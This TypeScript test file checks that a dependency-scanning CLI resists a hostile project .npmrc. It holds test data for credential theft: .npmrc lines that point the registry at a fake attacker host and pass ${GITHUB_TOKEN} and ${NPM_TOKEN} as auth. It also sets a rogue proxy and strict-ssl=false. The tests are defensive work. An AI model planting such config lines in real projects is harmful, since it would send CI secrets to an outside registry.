/**
 * Issue #10 rows 3, 4 and 9 through the built CLI (dist/cli.js as a child process, as CI
 * runs it): a hostile project `.npmrc` cannot take a CI secret to its registry, cannot put
 * a proxy between us and the registry, and a private registry's names never reach the
 * public advisory service. The child's user and global .npmrc are empty temp files, so
 * the developer's own config never plays a part. Servers on 127.0.0.1 only.
 */
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { rmSync } from 'node:fs';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { startFakeRegistry, type FakeRegistry } from '../support/fake-registry';
import { startFakeOsv, type FakeOsv } from '../support/fake-osv';
import { startTestProxy, type TestProxy } from '../support/test-proxy';
import { npmLockText, tempProject } from '../support/fixtures';

const CLI = path.resolve(__dirname, '../../dist/cli.js');
const SECRET = 'ghp_CIsecretCIsecretCIsecret0123';

let attacker: FakeRegistry;
let osv: FakeOsv;
let proxy: TestProxy;
const dirs: string[] = [];

before(async () => {
  [attacker, osv, proxy] = await Promise.all([startFakeRegistry(), startFakeOsv(), startTestProxy()]);
  attacker.addPackage('left-pad', { versions: { '1.3.0': { repository: 'github:a/b' } } });
  attacker.addPackage('@corp/lib', { versions: { '1.0.0': { repository: 'github:a/b' } } });
  osv.addRecord({ id: 'GHSA-left-pad', name: 'left-pad', versions: ['1.3.0'], severity: 'HIGH' });
});
after(async () => {
  await Promise.all([attacker.close(), osv.close(), proxy.close()]);
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** A project with left-pad and @corp/lib locked, and the given .npmrc. */
function projectWith(npmrc: string): string {
  const dir = tempProject({
    'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'left-pad': '1.3.0', '@corp/lib': '1.0.0' } }, null, 2),
    'package-lock.json': npmLockText({
      'left-pad': '1.3.0',
      '@corp/lib': { version: '1.0.0', resolved: 'https://registry.npmjs.org/@corp/lib/-/lib-1.0.0.tgz' },
    }),
    '.npmrc': npmrc,
    // Stand-ins for the CI machine's own config: empty.
    'user.npmrc': '',
  }, 'depwarden-hostile-npmrc-');
  dirs.push(dir);
  return dir;
}

/** Runs the CLI the way CI does, with a secret in the environment and no proxy variables. */
async function scan(dir: string, args: string[]): Promise<{ code: number; out: { findings: { rule: string; severity: string; file: string; message: string; range: unknown }[] }; stdout: string; stderr: string }> {
  const env: Record<string, string | undefined> = { ...process.env, GITHUB_TOKEN: SECRET, NPM_TOKEN: SECRET, NO_COLOR: '1' };
  for (const k of ['HTTPS_PROXY', 'https_proxy', 'HTTP_PROXY', 'http_proxy', 'NO_PROXY', 'no_proxy']) delete env[k];
  env.NPM_CONFIG_USERCONFIG = path.join(dir, 'user.npmrc');
  env.NPM_CONFIG_GLOBALCONFIG = path.join(dir, 'no-global.npmrc');
  try {
    const r = await promisify(execFile)(process.execPath, [CLI, 'scan', dir, '--format', 'json', '--quiet', '--fail-on', 'never', '--cache-dir', path.join(dir, '.cache'), ...args], {
      encoding: 'utf8',
      env,
      maxBuffer: 64 << 20,
    });
    return { code: 0, out: JSON.parse(r.stdout), stdout: r.stdout, stderr: r.stderr };
  } catch (e) {
    const err = e as { code?: number; stdout?: string; stderr?: string };
    throw new Error(`depwarden exited ${err.code}: ${err.stderr}\n${err.stdout?.slice(0, 2000)}`);
  }
}

test('row 3: a project .npmrc naming an attacker registry with ${GITHUB_TOKEN} gets no Authorization header and no secret', async () => {
  const host = new URL(attacker.url).host;
  const b64 = Buffer.from(SECRET).toString('base64');
  const dir = projectWith(
    [
      `registry=${attacker.url}`,
      `@corp:registry=${attacker.url}`,
      `//${host}/:_authToken=\${GITHUB_TOKEN}`,
      `//${host}/:_auth=\${NPM_TOKEN}`,
      `//${host}/:username=ci`,
      `//${host}/:_password=${b64}`,
      `_authToken=\${GITHUB_TOKEN}`,
      '',
    ].join('\n'),
  );
  const start = attacker.requests.length;
  const r = await scan(dir, ['--no-advisories']);
  const seen = attacker.requests.slice(start);
  assert.deepEqual(seen.map((q) => q.name).sort(), ['@corp/lib', 'left-pad'], 'the registries the project names are used');
  assert.deepEqual(seen.map((q) => q.headers.authorization), [undefined, undefined]);
  for (const s of [SECRET, b64]) {
    assert.ok(!JSON.stringify(seen).includes(s), 'the secret reached the attacker');
    assert.ok(!r.stdout.includes(s) && !r.stderr.includes(s), 'the secret is in the output');
  }
});

test('row 4: a project .npmrc proxy and strict-ssl=false are not used; the report says the project asks for them', async () => {
  const reg = await startFakeRegistry();
  try {
    reg.addPackage('left-pad', { versions: { '1.3.0': { repository: 'github:a/b' } } });
    reg.addPackage('@corp/lib', { versions: { '1.0.0': { repository: 'github:a/b' } } });
    const dir = projectWith([`https-proxy=${proxy.url}`, `proxy=${proxy.url}`, 'strict-ssl=false', ''].join('\n'));
    const proxyStart = proxy.log.length;
    const regStart = reg.requests.length;
    const r = await scan(dir, ['--registry', reg.url, '--public-registry', reg.url, '--no-advisories']);
    assert.deepEqual(proxy.log.slice(proxyStart), [], 'the project proxy got a connection');
    assert.equal(reg.requests.length - regStart, 2, 'both names asked of the registry directly');
    assert.equal(r.out.findings.filter((f) => f.rule === 'removed-from-registry').length, 0);
    const onNpmrc = r.out.findings.filter((f) => f.file === '.npmrc');
    assert.deepEqual(onNpmrc.map((f) => [f.rule, f.severity]).sort(), [
      ['insecure-url', 'error'],
      ['insecure-url', 'warning'],
      ['insecure-url', 'warning'],
    ]);
    const strict = onNpmrc.find((f) => f.severity === 'error')!;
    assert.deepEqual(strict.range, { start: { line: 2, character: 0 }, end: { line: 2, character: 16 } });
    assert.match(strict.message, /strict-ssl=false/);
  } finally {
    await reg.close();
  }
});

test('row 9: --registry on a private host sends no name to the advisory service, and the report says advisories were not checked', async () => {
  const dir = projectWith('');
  const start = osv.requests.length;
  const r = await scan(dir, ['--registry', attacker.url, '--advisories', osv.url]);
  assert.deepEqual(osv.requests.slice(start), [], 'names from a private registry reached the advisory service');
  const incomplete = r.out.findings.filter((f) => f.rule === 'lookup-incomplete');
  assert.equal(incomplete.length, 1);
  assert.match(incomplete[0].message, /not sent to the public advisory service/);

  // Declared a public mirror (what the other tests' loopback registries are): asked.
  const mirrored = await scan(dir, ['--registry', attacker.url, '--public-registry', attacker.url, '--advisories', osv.url]);
  assert.ok(osv.queriedNames().includes('left-pad'));
  assert.deepEqual(mirrored.out.findings.filter((f) => f.rule === 'known-vulnerability').length, 1);
  assert.equal(mirrored.out.findings.filter((f) => f.rule === 'lookup-incomplete').length, 0);
});
